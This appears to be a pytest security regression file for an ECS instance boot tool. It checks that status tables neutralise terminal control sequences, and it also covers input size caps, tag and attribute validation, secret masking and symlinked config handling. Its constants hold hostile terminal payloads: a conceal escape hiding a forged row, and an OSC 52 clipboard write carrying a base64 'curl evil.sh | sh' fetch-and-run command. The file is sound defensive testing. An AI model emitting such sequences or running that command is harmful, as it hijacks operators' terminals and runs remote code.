"""Issue 15, Medium and Low: what an attacker who can tag an instance, answer for an instance or
serve its inputs could still do. Each test drives the real binary and failed before the fix:
terminal injection through the status tables, tag values that crashed the daemon, attribute
names ECS refuses, inputs without a size cap, status documents past SSM's 24,000 characters, an
ecs.config that is not UTF-8, user-data secrets in `render`, and a symlinked ecs.config."""

from __future__ import annotations

import http.client
import json
import os
import signal
import stat
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from harness import fleet_sim
from harness.procs import wait_for
from lifecycle_helpers import start_instance, stop, wait_state
from test_boot_path import (FAST, SECRET_B64, assert_failed_run, boot_env, phase, put_s3, render,
                            run_config_phase, tags_for)
from test_fleet import daemon, fleet  # noqa: F401  (fixtures)

REPO_ROOT = Path(__file__).resolve().parent.parent
ESC = "\x1b"
HIDE = "\x1b[8m"  # conceal: the rows below vanish from the operator's terminal
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: writes the operator's clipboard


def peak_rss_kib(argv, env) -> tuple[subprocess.CompletedProcess, int]:
    """Runs argv under GNU time; returns the result and the process's peak RSS in KiB."""
    out = subprocess.run(["/usr/bin/time", "-f", "MAXRSS=%M", *argv], env=env,
                         capture_output=True, text=True, timeout=120)
    rss = [l for l in out.stderr.splitlines() if l.startswith("MAXRSS=")]
    assert rss, out.stderr
    kib = int(rss[-1].split("=", 1)[1])
    print(f"peak RSS {kib} KiB: {' '.join(argv[-1:])}")
    return out, kib


# --- 1. terminal injection -----------------------------------------------------------------------

def test_status_and_fleet_tables_show_controls_instead_of_obeying_them(fleet, tmp_path):
    fake_row = "x\ni-0000000000000099  healthy      in_service  -             -"
    hostile = {"kind": "failed", "failing_phase": "tags",
               "message": f"tag ecs-boot:x{HIDE}{fake_row}",
               "hint": f"\u202e{CLIPBOARD}",
               "extra": {"warnings": [f"tag {CLIPBOARD} ignored"]}}
    iid = "i-0000000000000001"
    fleet({iid: hostile, "i-0000000000000002": {"kind": "healthy"}})

    # The instance's own `ecs-boot status`, on its root.
    root = tmp_path / "instances" / iid
    binary = Path(os.environ.get("ECS_BOOT_BIN") or REPO_ROOT / "target/debug/ecs-boot")
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin")}
    table = subprocess.run([str(binary), "--root", str(root), "status"],
                           capture_output=True, text=True, env=env)
    assert table.returncode == 1, table.stderr
    for bad in (ESC, "\x07", "\u202e"):
        assert bad not in table.stdout, (bad, table.stdout)
    assert "\\e[8m" in table.stdout and "\\e]52;c;" in table.stdout
    assert not any(l.startswith("i-0000000000000099") for l in table.stdout.splitlines())
    exact = subprocess.run([str(binary), "--root", str(root), "status", "--json"],
                           capture_output=True, text=True, env=env)
    assert json.loads(exact.stdout)["state"]["error"]["message"] == hostile["message"]

    # The operator's fleet table, from the same document over SSM.
    out = fleet.run("--instance-ids", f"{iid},i-0000000000000002")
    assert out.returncode == 1, out.stderr
    for bad in (ESC, "\x07", "\u202e"):
        assert bad not in out.stdout, (bad, out.stdout)
    rows = [l for l in out.stdout.splitlines() if l.startswith("i-")]
    assert [r.split()[0] for r in rows] == [iid, "i-0000000000000002"], out.stdout
    doc = json.loads(fleet.run("--instance-ids", iid, "--json").stdout)
    assert doc["instances"][0]["status"]["state"]["error"]["hint"] == hostile["hint"]


# --- 2. no tag value can crash the daemon ---------------------------------------------------------

@pytest.mark.parametrize("setting, value", [
    ("ECS_CONTAINER_STOP_TIMEOUT", "99999999999999999999h"),
    ("ECS_IMAGE_PULL_TIMEOUT", "2562048h"),
    ("ECS_RESERVED_MEMORY", "65536"),
    ("ECS_NUM_IMAGES_DELETE_PER_CYCLE", "9223372036854775808"),  # past Go's int
])
def test_values_past_what_the_agent_parses_are_refused_naming_the_tag(setting, value, imds,
                                                                      ecs_boot):
    tag = f"ecs-boot:setting:{setting}"
    boot_env(imds, tags_for(**{tag: value}))
    ecs_boot.write_config(FAST)
    out = render(ecs_boot)
    assert out.returncode == 1, (out.returncode, out.stderr)
    assert "panicked" not in out.stderr and tag in out.stderr, out.stderr
    run = run_config_phase(ecs_boot)
    assert_failed_run(run, ecs_boot, tag)


def test_reserved_memory_plus_system_containers_must_fit_16_bits(imds, ecs_boot):
    boot_env(imds, tags_for(**{"ecs-boot:setting:ECS_RESERVED_MEMORY": "65500"}))
    ecs_boot.write_config(FAST + '[[container]]\nname = "cw"\nimage = "busybox"\nmemory_mib = 128\n')
    out = render(ecs_boot)
    assert out.returncode == 1, out.stdout
    assert "ecs-boot:setting:ECS_RESERVED_MEMORY" in out.stderr and "65535" in out.stderr


# --- 3. attributes by ECS's rules ----------------------------------------------------------------

# Non-ASCII names cannot reach IMDS (EC2 refuses such keys when tags are in metadata): the Rust
# tests of ecs_config::attribute cover them.
@pytest.mark.parametrize("name, value", [
    ("team@corp", "web"),
    ("az:1", "web"),
    ("ecs-boot.drained", "false"),
    ("stack", "blue,green"),
    ("stack", "grün"),
])
def test_attributes_ecs_would_refuse_fail_at_boot_naming_the_tag(name, value, imds, ecs_boot):
    tag = f"ecs-boot:attribute:{name}"
    boot_env(imds, tags_for(**{tag: value}))
    ecs_boot.write_config(FAST)
    out = render(ecs_boot)
    assert out.returncode == 1, out.stdout
    assert f"tag {tag}:" in out.stderr, out.stderr


def test_attributes_ecs_accepts_pass(imds, ecs_boot):
    boot_env(imds, tags_for(**{"ecs-boot:attribute:team/web": "ops@corp:/a b"}))
    ecs_boot.write_config(FAST)
    out = render(ecs_boot)
    assert out.returncode == 0, out.stderr
    assert '"team/web":"ops@corp:/a b"' in out.stdout


# --- 4. size caps ---------------------------------------------------------------------------------

def test_an_oversized_identity_document_is_refused_without_reading_it_whole(imds, ecs_boot):
    boot_env(imds)
    ecs_boot.write_config(FAST)
    imds.set_oversize(1 << 20, "/latest/dynamic/instance-identity/document")
    out = render(ecs_boot)
    assert out.returncode == 1, out.stdout
    assert "/latest/dynamic/instance-identity/document" in out.stderr, out.stderr
    assert "64 KiB limit" in out.stderr, out.stderr
    # 256 MiB served: the client stops at the cap instead of holding it all.
    imds.set_oversize(256 << 20, "/latest/dynamic/instance-identity/document")
    out, rss = peak_rss_kib(ecs_boot.argv("render"), ecs_boot.env)
    assert out.returncode == 1 and "64 KiB limit" in out.stderr, out.stderr
    assert rss < 128 << 10, f"peak RSS {rss} KiB"


def test_an_oversized_tag_value_is_refused_naming_the_path(imds, ecs_boot):
    boot_env(imds, tags_for(Name="x" * (100 << 10)))
    ecs_boot.write_config(FAST)
    out = render(ecs_boot)
    assert out.returncode == 1, out.stdout
    assert "/latest/meta-data/tags/instance/Name" in out.stderr and "64 KiB limit" in out.stderr


class _ChunkingProxy(BaseHTTPRequestHandler):
    """Forwards to moto, answering every GET chunked, without Content-Length (as S3 may when
    the object is served from a transformation or a proxy)."""
    protocol_version = "HTTP/1.1"
    upstream = ""

    def log_message(self, *args):
        pass

    def _forward(self):
        up = urlsplit(self.upstream)
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        conn = http.client.HTTPConnection(up.hostname, up.port, timeout=60)
        headers = {k: v for k, v in self.headers.items() if k.lower() != "host"}
        conn.request(self.command, self.path, body=body or None, headers=headers)
        resp = conn.getresponse()
        self.send_response(resp.status)
        for k, v in resp.getheaders():
            if k.lower() not in ("content-length", "transfer-encoding", "connection"):
                self.send_header(k, v)
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        try:
            while chunk := resp.read(1 << 16):
                self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
            self.wfile.write(b"0\r\n\r\n")
        except ConnectionError:
            self.close_connection = True  # the client stopped reading: its cap held
        conn.close()

    do_GET = do_PUT = do_POST = do_HEAD = _forward


@pytest.fixture
def chunking_s3(moto):
    handler = type("H", (_ChunkingProxy,), {"upstream": moto.url})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_an_s3_object_without_content_length_is_read_with_a_running_cap(moto, imds, ecs_boot,
                                                                        chunking_s3):
    ecs_boot.extra_trust = {"registry_auth_prefixes": ["s3://creds-big/"]}
    location = put_s3(moto, "creds-big", "cfg.json", b"{" + b" " * (64 << 20) + b"}")
    boot_env(imds, tags_for(**{"ecs-boot:registry-auth": location}))
    ecs_boot.write_config(FAST)
    env = dict(ecs_boot.env, AWS_ENDPOINT_URL_S3=chunking_s3)
    out, rss = peak_rss_kib(ecs_boot.argv("render"), env)
    assert out.returncode == 1, out.stdout
    assert location in out.stderr and "65536-byte limit" in out.stderr, out.stderr
    # Buffering the 64 MiB object first (as before) costs at least that much.
    assert rss < 48 << 10, f"peak RSS {rss} KiB"


# --- 5. status --json fits SSM's inline output ------------------------------------------------------

def test_status_json_stays_under_24000_bytes_through_reloads_with_long_errors(
        moto, world, imds, ecs_boot, fake_agent):
    # A credentials location near the tag-value cap, allowed but absent: every reload fails,
    # quoting it.
    ecs_boot.extra_trust = {"registry_auth_prefixes": ["s3://no-such-bucket-15/"]}
    proc, _ = start_instance(ecs_boot, fake_agent)
    wait_state(ecs_boot, lambda s: s.get("outcome") == "in_service", timeout=60)
    long_location = "s3://no-such-bucket-15/" + "k" * 60_000
    imds.set_tags(dict(world.tags, **{"ecs-boot:registry-auth": long_location}))
    reloads = 20  # 3 phases each: past any bound on the phase history
    last = None
    for n in range(1, reloads + 1):
        proc.send_signal(signal.SIGHUP)

        def reloaded(s, last=last):
            p = s["phases"][-1]
            done = p["name"] == "credentials" and p["status"] == "failed"
            return done and p["started_at"] != last

        last = wait_state(ecs_boot, reloaded, timeout=60,
                          what=f"reload {n} recorded")["phases"][-1]["started_at"]
    out = ecs_boot.run("status", "--json")
    doc = json.loads(out.stdout)
    assert len(out.stdout.encode()) < 24_000, len(out.stdout.encode())
    assert doc["state"]["error"]["phase"] == "credentials"
    assert "s3://no-such-bucket-15/kkk" in doc["state"]["error"]["message"]
    state_bytes = ecs_boot.state_file.stat().st_size
    assert state_bytes < 256 << 10, state_bytes
    assert len(doc["state"]["phases"]) <= 48
    print(f"status --json {len(out.stdout.encode())} bytes, state.json {state_bytes} bytes "
          f"after {reloads} reloads")
    assert stop(proc) == 0


# --- 6. an ecs.config that is not UTF-8 -------------------------------------------------------------

def test_a_non_utf8_ecs_config_is_refused_naming_the_line_never_rewritten_without_it(
        world, ecs_boot):
    original = b"ECS_DISABLE_PRIVILEGED=true\n# caf\xe9 au lait\nECS_LOGLEVEL=warn\n"
    ecs_boot.ecs_config.parent.mkdir(parents=True)
    ecs_boot.ecs_config.write_bytes(original)
    ecs_boot.write_config(FAST)
    run = run_config_phase(ecs_boot)
    assert_failed_run(run, ecs_boot, str(ecs_boot.ecs_config), "line 2")
    assert ecs_boot.ecs_config.read_bytes() == original
    assert not (ecs_boot.root / "run/ecs-boot/ecs-config.sha256").exists()
    out = render(ecs_boot)
    assert out.returncode == 1 and "line 2" in out.stderr


# --- 7. render masks secrets wherever they came from ----------------------------------------------

def test_render_masks_a_user_data_auth_line(imds, ecs_boot):
    boot_env(imds)
    ecs_boot.ecs_config.parent.mkdir(parents=True)
    line = 'ECS_ENGINE_AUTH_DATA={"https://index.docker.io/v1/":{"auth":"%s"}}' % SECRET_B64
    ecs_boot.ecs_config.write_text(f"ECS_ENGINE_AUTH_TYPE=dockercfg\n{line}\n")
    ecs_boot.write_config(FAST)
    out = render(ecs_boot)
    assert out.returncode == 0, out.stderr
    assert SECRET_B64 not in out.stdout and SECRET_B64 not in out.stderr
    assert "ECS_ENGINE_AUTH_DATA=<secret sha256:" in out.stdout
    shown = render(ecs_boot, "--show-secrets")
    assert line in shown.stdout.splitlines()


# --- 8. ecs.config is always a regular root-owned 0600 file -----------------------------------------

def test_a_symlinked_or_foreign_ecs_config_is_replaced_not_followed(world, ecs_boot, tmp_path):
    ecs_boot.write_config(FAST)
    assert run_config_phase(ecs_boot).ok
    written = ecs_boot.ecs_config.read_bytes()
    target = tmp_path / "elsewhere.config"
    target.write_bytes(written)
    target.chmod(0o644)
    ecs_boot.ecs_config.unlink()
    ecs_boot.ecs_config.symlink_to(target)

    run = run_config_phase(ecs_boot)
    assert run.ok, run.log
    st = os.lstat(ecs_boot.ecs_config)
    assert stat.S_ISREG(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o600
    assert ecs_boot.ecs_config.read_bytes() == written
    assert stat.S_IMODE(target.stat().st_mode) == 0o644, "the link's target was chmodded"

    if os.geteuid() == 0:
        os.chown(ecs_boot.ecs_config, 1000, 1000)
        assert run_config_phase(ecs_boot).ok
        st = os.lstat(ecs_boot.ecs_config)
        assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (0, 0, 0o600)
